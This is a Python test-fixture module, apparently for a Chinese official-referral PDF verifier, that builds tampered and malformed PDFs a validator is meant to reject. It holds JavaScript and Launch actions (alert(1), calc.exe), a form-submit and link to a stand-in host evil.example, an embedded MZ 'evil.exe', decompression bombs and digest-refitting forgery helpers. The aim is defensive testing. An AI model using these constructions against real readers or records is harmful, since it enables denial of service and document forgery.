"""Files that somebody made to be taken for a letter, each made here from a sound one.

`ALTERED`: pages, catalogue, attachments or data changed by somebody who knows how the file is made and
gives it the digests that fit. `BROKEN`: what is no such file at all.
"""

from __future__ import annotations

import hashlib
import io
import json
import re
import warnings
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name

from casehub.documents.archival import CONTENT_HASH, content_hash, properties_of
from casehub.exchange import canonical

Change = Callable[[pikepdf.Pdf], object]


def remade(pdf: bytes, change: Change, **stated: str) -> bytes:
    """The file changed, with every digest in it made to fit."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf)) as opened:
        change(opened)
        fitting = {CONTENT_HASH: content_hash(opened), **stated}
        xmp = opened.Root.Metadata.read_bytes().decode()
        for name, value in fitting.items():
            xmp = re.sub(rf"(<cqip:{name}>)[^<]*", lambda m, v=value: m[1] + v, xmp)
        opened.Root.Metadata.write(xmp.encode())
        assert properties_of(opened)[CONTENT_HASH] == fitting[CONTENT_HASH]
        save(opened, out)
    return out.getvalue()


def save(opened: pikepdf.Pdf, out: io.BytesIO) -> None:
    """Written as it is: what is odd about it is not mended."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", pikepdf.PageCopyWarning)
        opened.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def note(subtype: str, **more: object) -> Change:
    def change(pdf: pikepdf.Pdf) -> None:
        page = pdf.pages[0].obj
        one = Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype), Rect=Array([80, 500, 300, 560]), **more)
        page.Annots = Array([*page.get("/Annots", Array()), pdf.make_indirect(one)])

    return change


def drawn(content: bytes, **resources: object) -> Change:
    """Something drawn over the first page."""

    def change(pdf: pikepdf.Pdf) -> None:
        page = pdf.pages[0]
        for name, entry in resources.items():
            table = page.resources.get("/" + name, Dictionary())
            made = entry(pdf) if callable(entry) else entry
            table["/Evil"] = made
            page.resources["/" + name] = table
        page.contents_add(pdf.make_stream(content))

    return change


def before(content: bytes, behind: bytes = b"") -> Change:
    """The first page drawn as it is, with something in front that changes how."""

    def change(pdf: pikepdf.Pdf) -> None:
        page = pdf.pages[0]
        whole = b"\n".join(s.read_bytes() for s in as_streams(page))
        page.obj.Contents = pdf.make_stream(content + b"\n" + whole + b"\n" + behind)

    return change


def as_streams(page: pikepdf.Page) -> list[Any]:
    contents = page.obj.Contents
    return list(contents) if isinstance(contents, Array) else [contents]


def on_page(**entries: object) -> Change:
    def change(pdf: pikepdf.Pdf) -> None:
        for name, value in entries.items():
            pdf.pages[0].obj["/" + name] = value

    return change


def on_catalogue(**entries: object) -> Change:
    def change(pdf: pikepdf.Pdf) -> None:
        for name, value in entries.items():
            pdf.Root["/" + name] = value

    return change


def action(kind: str, **more: object) -> Dictionary:
    return Dictionary(S=Name("/" + kind), **more)


def enclosing(name: str, content: bytes, *, listed: bool = True) -> Change:
    def change(pdf: pikepdf.Pdf) -> None:
        spec = pikepdf.AttachedFileSpec(pdf, content, filename=name)
        pdf.attachments[name] = spec
        if listed:
            pdf.Root.AF.append(pdf.attachments[name].obj)

    return change


def payload_of(pdf: pikepdf.Pdf) -> dict[str, Any]:
    found: dict[str, Any] = json.loads(pdf.attachments["referral.json"].get_file().read_bytes())
    return found


def data(pdf: bytes, make: Callable[[dict[str, Any]], bytes], *, fitting: bool = True) -> bytes:
    """Another payload, and its digest stated where digests are."""
    with pikepdf.open(io.BytesIO(pdf)) as opened:
        content = make(payload_of(opened))

    def change(opened: pikepdf.Pdf) -> None:
        opened.attachments["referral.json"].obj.EF.F.write(content)

    stated = {"PayloadSHA256": hashlib.sha256(content).hexdigest()} if fitting else {}
    return remade(pdf, change, **stated)


def saying(change: Callable[[dict[str, Any]], object]) -> Callable[[bytes], bytes]:
    """Data that says something else than the pages."""

    def make(payload: dict[str, Any]) -> bytes:
        change(payload)
        return canonical(payload)

    return lambda pdf: data(pdf, make)


def of(change: Change) -> Callable[[bytes], bytes]:
    return lambda pdf: remade(pdf, change)


def picture(pdf: pikepdf.Pdf) -> pikepdf.Stream:
    image = pdf.make_stream(b"\xff" * 300)
    image.update(Dictionary(Type=Name.XObject, Subtype=Name.Image, Width=10, Height=10,
                            ColorSpace=Name.DeviceRGB, BitsPerComponent=8))  # fmt: skip
    return image


def form(pdf: pikepdf.Pdf) -> pikepdf.Stream:
    made = pdf.make_stream(b"1 g 0 0 300 300 re f")
    made.update(Dictionary(Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 300, 300])))
    return made


def fonts(change: Callable[[pikepdf.Object], object]) -> Change:
    def on(pdf: pikepdf.Pdf) -> None:
        for font in dict(pdf.pages[0].resources.Font).values():
            change(font)

    return on


def unembedded(font: pikepdf.Object) -> None:
    described = font.DescendantFonts[0].FontDescriptor
    for key in ("/FontFile2", "/FontFile3"):
        if key in described:
            del described[key]


def codes(change: Callable[[bytes], bytes]) -> Change:
    """Another picture where a code is."""

    def on(pdf: pikepdf.Pdf) -> None:
        shown = {i.objgen: i for page in pdf.pages for i in dict(page.resources.XObject).values()}
        for image in list(shown.values())[-1:]:
            image.write(change(image.read_bytes()), filter=None, decode_parms=None)

    return on


def twice(pdf: pikepdf.Pdf) -> None:
    pdf.pages.append(pdf.pages[2])


def lists(pdf: pikepdf.Pdf, **resources: object) -> None:
    pdf.Root.OCProperties = Dictionary(OCGs=Array([]), D=Dictionary())


def layer(pdf: pikepdf.Pdf) -> None:
    group = pdf.make_indirect(Dictionary(Type=Name.OCG, Name="x"))
    pdf.pages[0].resources.Properties = Dictionary(MC0=group)
    before(b"/OC /MC0 BDC", b"EMC")(pdf)


def shared_crop(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Pages.CropBox = Array([0, 0, 300, 300])


def kept(pdf: pikepdf.Pdf, size: int) -> None:
    for _ in range(size):
        pdf.make_indirect(Dictionary(X=1))
    pdf.Root.ViewerPreferences.Kept = Array([pdf.make_indirect(Dictionary(N=n)) for n in range(size)])


def outlined(made: Dictionary) -> Change:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.Outlines.First.A = made

    return change


def named(tree: str, made: Dictionary) -> Change:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.Names["/" + tree] = Dictionary(Names=Array(["x", made]))

    return change


def replaced(name: str, content: bytes) -> Change:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.attachments[name].obj.EF.F.write(content)

    return change


def without(name: str) -> Change:
    def change(pdf: pikepdf.Pdf) -> None:
        at = pdf.attachments[name].obj.objgen
        del pdf.attachments[name]
        pdf.Root.AF = Array([one for one in pdf.Root.AF if one.objgen != at])

    return change


def unregistered(pdf: pikepdf.Pdf) -> None:
    stream = pdf.make_stream(b"MZ evil")
    stream.Type = Name.EmbeddedFile
    pdf.Root.ViewerPreferences.X = stream


JS = action("JavaScript", JS="app.alert(1)")
LAUNCH = action("Launch", F="calc.exe")
TEXT = b"BT /F1 16 Tf 1 0 0 1 90 400 Tm"

ALTERED: dict[str, Callable[[bytes], bytes]] = {
    # What lies on a page.
    **{f"note {kind}": of(note(kind, Contents="改为三日内")) for kind in (
        "Text", "FreeText", "Stamp", "Highlight", "Square", "Ink", "Popup", "Caret", "Redact", "Watermark", "Polygon",
    )},
    "note link": of(note("Link", A=action("URI", URI="https://evil.example"))),
    "note file": of(note("FileAttachment", FS=Dictionary(Type=Name.Filespec, F="x.exe"))),
    "note screen": of(note("Screen", A=action("Rendition"))),
    "note 3d": of(note("3D")),
    "note media": of(note("RichMedia")),
    "field of text": of(note("Widget", FT=Name.Tx, T="x", V="三日")),
    "button": of(note("Widget", FT=Name.Btn, T="x", A=JS)),
    "seal as large as a page": of(lambda pdf: note("Widget", FT=Name.Sig, T="S")(pdf) or pdf.pages[0].obj.Annots[-1].update(Dictionary(Rect=Array([0, 0, 595, 842])))),
    # How a page is laid.
    "turned": of(on_page(Rotate=90)),
    "upside down": of(on_page(Rotate=180)),
    "cropped": of(on_page(CropBox=Array([0, 400, 595, 842]))),
    "cropped from above": of(shared_crop),
    "larger unit": of(on_page(UserUnit=10)),
    "larger sheet": of(on_page(MediaBox=Array([0, 0, 5950, 8420]))),
    "moved sheet": of(on_page(MediaBox=Array([0, 300, 595, 1142]))),
    "trimmed": of(on_page(TrimBox=Array([100, 100, 200, 200]))),
    "bled": of(on_page(BleedBox=Array([0, 0, 100, 100]))),
    "turned back": of(on_page(Rotate=360)),
    # What is drawn.
    "white over text": of(drawn(b"q 1 g 60 100 480 650 re f Q")),
    "black over text": of(drawn(b"q 0 g 90 500 400 40 re f Q")),
    "thick line over text": of(drawn(b"q 1 G 60 w 90 560 m 500 560 l S Q")),
    "picture over text": of(drawn(b"q 400 0 0 300 90 400 cm /Evil Do Q", XObject=picture)),
    "small picture over text": of(drawn(b"q 80 0 0 30 90 500 cm /Evil Do Q", XObject=picture)),
    "form over text": of(drawn(b"q /Evil Do Q", XObject=form)),
    "inline picture": of(drawn(b"q 300 0 0 300 90 400 cm BI /W 1 /H 1 /CS /G /BPC 8 ID \xff EI Q")),
    "pattern": of(drawn(b"q /Pattern cs /Evil scn 90 400 200 200 re f Q", Pattern=lambda pdf: pdf.make_indirect(Dictionary(PatternType=2)))),
    "shading": of(drawn(b"q /Evil sh Q", Shading=lambda pdf: pdf.make_indirect(Dictionary(ShadingType=2, ColorSpace=Name.DeviceGray)))),
    "transparent": of(drawn(b"q /Evil gs Q", ExtGState=Dictionary(ca=0))),
    "blended": of(drawn(b"q /Evil gs Q", ExtGState=Dictionary(BM=Name.Multiply))),
    "masked": of(drawn(b"q /Evil gs Q", ExtGState=Dictionary(SMask=Dictionary(S=Name.Luminosity)))),
    "everything without ink": of(before(b"3 Tr")),
    "everything as outline for cutting": of(before(b"7 Tr")),
    "everything white": of(lambda pdf: recoloured(pdf)),  # noqa: PLW0108  named below
    "everything tiny": of(before(b"q 0.05 0 0 0.05 0 0 cm", b"Q")),
    "everything mirrored": of(before(b"q -1 0 0 1 595 0 cm", b"Q")),
    "everything outside": of(before(b"q 1 0 0 1 900 0 cm", b"Q")),
    "everything cut away": of(before(b"q 0 0 1 1 re W n", b"Q")),
    "everything slanted": of(before(b"q 1 0.3 0 1 0 0 cm", b"Q")),
    "figures drawn": of(drawn(b"q 0 g 100 400 m " + b"".join(b"%d %d l " % (100 + n, 400 + n % 7) for n in range(40)) + b"f Q")),
    "page said again": of(twice),
    "page left out": of(lambda pdf: pdf.pages.__delitem__(2)),
    "letter left out": of(lambda pdf: pdf.pages.__delitem__(0)),
    "page emptied": of(lambda pdf: setattr(pdf.pages[2].obj, "Contents", pdf.make_stream(b""))),
    "hidden layer": of(layer),
    "list of layers": of(lists),
    "face that draws itself": of(fonts(lambda font: font.update(Dictionary(Subtype=Name.Type3)))),
    "face that says nothing": of(fonts(lambda font: font.__delitem__("/ToUnicode"))),
    "face of the reader": of(fonts(unembedded)),
    "code of another": of(codes(lambda dots: bytes(255 - one for one in dots))),
    "code left blank": of(codes(lambda dots: b"\xff" * len(dots))),
    # What a reader would do.
    "script on opening": of(on_catalogue(OpenAction=JS)),
    "program on opening": of(on_catalogue(OpenAction=LAUNCH)),
    "script of the file": of(on_catalogue(AA=Dictionary(WC=JS))),
    "script of a page": of(on_page(AA=Dictionary(O=JS))),
    "script by name": of(named("JavaScript", JS)),
    "media by name": of(named("Renditions", Dictionary())),
    "address in the outline": of(outlined(action("URI", URI="https://evil.example"))),
    "program in the outline": of(outlined(LAUNCH)),
    "another file in the outline": of(outlined(action("GoToR", F="x.pdf"))),
    "sending in the outline": of(outlined(action("SubmitForm", F="https://evil.example"))),
    "form of another kind": of(on_catalogue(AcroForm=Dictionary(Fields=Array([]), XFA=Array([])))),
    "form to be drawn anew": of(on_catalogue(AcroForm=Dictionary(Fields=Array([]), NeedAppearances=True))),
    "portfolio": of(on_catalogue(Collection=Dictionary())),
    "base address": of(on_catalogue(URI=Dictionary(Base="https://evil.example"))),
    "way of opening": of(on_catalogue(PageMode=Name.UseAttachments)),
    "requirements": of(on_catalogue(Requirements=Array([]))),
    "rights": of(on_catalogue(Perms=Dictionary())),
    # What it carries.
    "program enclosed": of(enclosing("evil.exe", b"MZ")),
    "paper enclosed besides": of(enclosing("more.pdf", b"%PDF-1.7")),
    "enclosed by name only": of(enclosing("more.pdf", b"%PDF-1.7", listed=False)),
    "enclosed and not registered": of(unregistered),
    "enclosure exchanged": of(replaced("songhuo.pdf", b"%PDF-1.7 other")),
    "enclosure emptied": of(replaced("songhuo.pdf", b"")),
    "enclosure left out": of(without("songhuo.pdf")),
    # What its data says.
    "another number": saying(lambda p: p["gongwen"].update(发文字号="渝万州市监函〔2026〕18号")),
    "a longer period": saying(lambda p: p["clock"].update(requestedBy="2026-12-31")),
    "another question": saying(lambda p: p["asks"][0].update(what="核实供货单价")),
    "a question more": saying(lambda p: p["asks"].append({"n": 3, "what": "提供当事人全部客户名单"})),
    "a question less": saying(lambda p: p["asks"].pop()),
    "another sender": saying(lambda p: p["sender"].update(name="重庆市开州区市场监督管理局")),
    "another telephone": saying(lambda p: p["check"].update(tel="010-0000-0000")),
    "another contact": saying(lambda p: p["sender"]["contacts"][0].update(tel="010-0000-0000")),
    "another right": saying(lambda p: p["case"].update(rightNo="9999999")),
    "a part of the number of the right": saying(lambda p: p["case"].update(rightNo="9999")),
    "a person who is not on the page": saying(lambda p: p.update(subjects=[{"name": "张三", "role": "suspected"}])),
    "a file that is not on the page": saying(lambda p: p["gongwen"]["附件"].append({"序号": 2, "名称": "另件", "place": "paper"})),
    "another flow number": saying(lambda p: p.update(flowId="XC-500101-511700-2026-00018-8")),
}


def recoloured(pdf: pikepdf.Pdf) -> None:
    page = pdf.pages[0]
    made = []
    for operands, operator in pikepdf.parse_content_stream(page):
        if str(operator) == "BT":
            made.append(([1, 1, 1], pikepdf.Operator("rg")))
        made.append((operands, operator))
    page.obj.Contents = pdf.make_stream(pikepdf.unparse_content_stream(made))


def bomb(pdf: bytes, size: int) -> bytes:
    packed = zlib.compressobj(9)
    content = b"".join([*(packed.compress(b" " * (1 << 20)) for _ in range(size)), packed.flush()])

    def change(opened: pikepdf.Pdf) -> None:
        opened.pages[0].obj.Contents.write(content, filter=Name.FlateDecode)

    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf)) as opened:
        change(opened)
        save(opened, out)
    return out.getvalue()


def objects_bomb() -> bytes:
    """Objects packed in a stream that grows without end, named where a reader looks first."""
    packed = zlib.compressobj(9)
    content = b"".join([*(packed.compress(b"0" * (1 << 20)) for _ in range(400)), packed.flush()])
    head = b"%%PDF-1.7\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(content)
    body = head + content + b"\nendstream\nendobj\n"
    rows = b"\0\0\0\0\0" + b"\1" + (9).to_bytes(3, "big") + b"\0" + b"\2\0\0\1\0" + b"\1" + len(body).to_bytes(3, "big") + b"\0"
    table = b"3 0 obj\n<</Type/XRef/Size 4/W[1 3 1]/Root 2 0 R/Length %d>>\nstream\n" % len(rows)
    return body + table + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(body)


def locked(pdf: bytes, user: str) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf)) as opened:
        opened.save(out, encryption=pikepdf.Encryption(owner="o", user=user))
    return out.getvalue()


def coded(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.Contents = pdf.make_stream(b"2020>", Filter=Name.ASCIIHexDecode)


def coded_twice(pdf: pikepdf.Pdf) -> None:
    content = zlib.compress(zlib.compress(b" "))
    stream = pdf.make_stream(b"")
    stream.write(content, filter=Array([Name.FlateDecode, Name.FlateDecode]))
    pdf.pages[0].obj.Contents = stream


def fetched(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.Contents.F = "https://evil.example/x"


def endless(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Pages.Kids.append(pdf.Root.Pages)


def many(pdf: pikepdf.Pdf) -> None:
    for _ in range(70):
        pdf.pages.append(pdf.pages[0])


def deep(payload: dict[str, Any]) -> bytes:
    return canonical({**payload, "more": json.loads("[" * 40 + "]" * 40)})


BROKEN: dict[str, Callable[[bytes], bytes]] = {
    "nothing": lambda _: b"",
    "picture": lambda pdf: b"GIF89a" + pdf,
    "head alone": lambda _: b"%PDF-1.7\n",
    "page of the web": lambda _: b"<html><script>alert(1)</script></html>",
    "something in front": lambda pdf: b"#!/bin/sh\n" + pdf,
    "cut in the middle": lambda pdf: pdf[: len(pdf) // 2],
    "cut at the end": lambda pdf: pdf[:-200],
    "locked": lambda pdf: locked(pdf, "u"),
    "locked for changes": lambda pdf: locked(pdf, ""),
    "page that grows": lambda pdf: bomb(pdf, 300),
    "objects that grow": lambda _: objects_bomb(),
    "too many objects": of(lambda pdf: kept(pdf, 21_000)),
    "too many pages": of(many),
    "endless pages": lambda pdf: unfit(pdf, endless),
    "data left out": of(without("referral.json")),
    "data of another format": lambda pdf: data(pdf, lambda _: b"<xml/>"),
    "data that is a list": lambda pdf: data(pdf, lambda _: b"[]"),
    "data in no letters": lambda pdf: data(pdf, lambda _: b"\xff\xfe{}"),
    "data twice": lambda pdf: data(pdf, lambda p: canonical(p)[:-1] + b',"type":"XC"}'),
    "data with blanks": lambda pdf: data(pdf, lambda p: json.dumps(p, ensure_ascii=False).encode()),
    "data without numbers": lambda pdf: data(pdf, lambda p: canonical(p).replace(b'"workingDays":15', b'"workingDays":NaN')),
    "data too deep": lambda pdf: data(pdf, deep),
    "data far too deep": lambda pdf: data(pdf, lambda _: b"[" * 200_000),
    "data too long": lambda pdf: data(pdf, lambda p: canonical({**p, "more": "x" * (2 << 20)})),
    "data changed alone": lambda pdf: data(pdf, lambda p: canonical({**p, "profile": "MIN"}), fitting=False),
    "later version": saying(lambda p: p.update(schema="cq-ip-referral/2.0")),
    "other version": saying(lambda p: p.update(schema="evil/1.0")),
    "without a version": saying(lambda p: p.pop("schema")),
    "unknown message": saying(lambda p: p["message"].update(kind="ORDER")),
    "wrong check digit": saying(lambda p: p.update(flowId=p["flowId"][:-1] + ("1" if p["flowId"][-1] != "1" else "2"))),
    "unknown type": saying(lambda p: p.update(type="ZZ", flowId="ZZ" + p["flowId"][2:])),
    "day that is none": saying(lambda p: p["gongwen"].update(成文日期="2026-02-30")),
    "code in a number": saying(lambda p: p["gongwen"].update(发文字号="x" * 400)),
    "another flow number stated": lambda pdf: remade(pdf, lambda _: None, FlowId="XC-1"),
}  # fmt: skip


def unfit(pdf: bytes, change: Change) -> bytes:
    """Changed so that not even its digests can be made."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf)) as opened:
        change(opened)
        save(opened, out)
    return out.getvalue()


# Refused for the sake of what they are, although their pages may still say the same.
ODD: dict[str, Callable[[bytes], bytes]] = {
    "archive behind": lambda pdf: pdf + b"PK\3\4" + b"\0" * 40,
    "blanks behind": lambda pdf: pdf + b"\n" * 40,
    "coded in letters": of(coded),
    "coded twice": of(coded_twice),
    "content from elsewhere": lambda pdf: unfit(pdf, fetched),
}
